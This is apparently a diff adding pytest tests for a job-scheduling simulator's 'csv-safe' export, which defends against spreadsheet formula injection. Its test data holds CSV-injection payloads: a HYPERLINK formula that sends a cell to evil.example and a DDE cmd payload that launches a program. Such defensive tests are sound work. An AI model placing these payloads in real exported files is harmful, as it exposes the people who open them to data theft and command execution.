@@ -218,3 +218,65 @@ def test_the_evalys_example_of_the_docs_draws_a_window_of_the_schedule(run_dir, 
     assert not [t for t in ax.texts if t.get_text().isdigit()]  # no job labels
     assert (tmp_path / "gantt.png").read_bytes()[:4] == b"\x89PNG"
     plt.close(scope["fig"])
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3",
+            "\tTAB", "\rCR"]
+
+
+@pytest.fixture
+def formula_run(tmp_path):
+    """A run of a job table whose users hold formulas (SWF users are numbers; a table's are text)."""
+    import csv
+
+    trace = tmp_path / "jobs.csv"
+    with trace.open("w", newline="") as fh:
+        w = csv.writer(fh)
+        w.writerow(["id", "submit_s", "runtime_s", "nodes", "user", "group"])
+        for i, user in enumerate([*FORMULAS, "alice", "o'neil", "a=b"], 1):
+            w.writerow([i, 10 * i, 30 + i, 1 + i % 2, user, "=1+1"])
+    out = tmp_path / "run"
+    assert main(["simulate", "--trace", str(trace), "--procs", "4", "--policy", "easy", "--out", str(out), "-q",
+                 "--no-report"]) == 0
+    return out
+
+
+def _cells(path):
+    import csv
+
+    with path.open(newline="") as fh:
+        return list(csv.reader(fh))
+
+
+def test_csv_safe_export_quotes_formulas_and_leaves_jobs_csv_exact(formula_run, capsys):
+    before = (formula_run / "jobs.csv").read_bytes()
+    exact = _cells(formula_run / "jobs.csv")
+    assert [r[1] for r in exact[1:7]] == FORMULAS  # jobs.csv keeps the trace's text
+    assert main(["export", str(formula_run), "--format", "csv-safe"]) == 0
+    assert "wrote 9 jobs" in capsys.readouterr().err
+    assert (formula_run / "jobs.csv").read_bytes() == before
+    safe = _cells(formula_run / "jobs-safe.csv")
+    assert safe[0] == exact[0] and len(safe) == len(exact)
+    user = exact[0].index("user")
+    assert [r[user] for r in safe[1:]] == ["'" + f for f in FORMULAS] + ["alice", "o'neil", "a=b"]
+    for a, b in zip(exact[1:], safe[1:]):  # every other cell, numbers included, is the same text
+        assert a[:user] + a[user + 1:] == b[:user] + b[user + 1:]
+
+
+def test_csv_safe_export_leaves_negative_numbers_alone(formula_run, tmp_path):
+    from wattsched.sim.export import write_jobs_csv_safe
+
+    run, _ = load_run(formula_run)
+    run.jobs["energy_j"] = run.jobs["energy_j"].copy()
+    run.jobs["energy_j"][0] = -1.5
+    out = tmp_path / "safe.csv"
+    assert write_jobs_csv_safe(run, out) == (9, 6)
+    rows = _cells(out)
+    assert rows[1][rows[0].index("energy_j")] == "-1.5"
+
+
+def test_export_never_writes_over_a_table_of_the_run(formula_run, capsys):
+    before = (formula_run / "jobs.csv").read_bytes()
+    assert main(["export", str(formula_run), "--format", "csv-safe", "--out", str(formula_run / "jobs.csv")]) == 2
+    assert "jobs.csv is a file of the run" in capsys.readouterr().err
+    assert (formula_run / "jobs.csv").read_bytes() == before
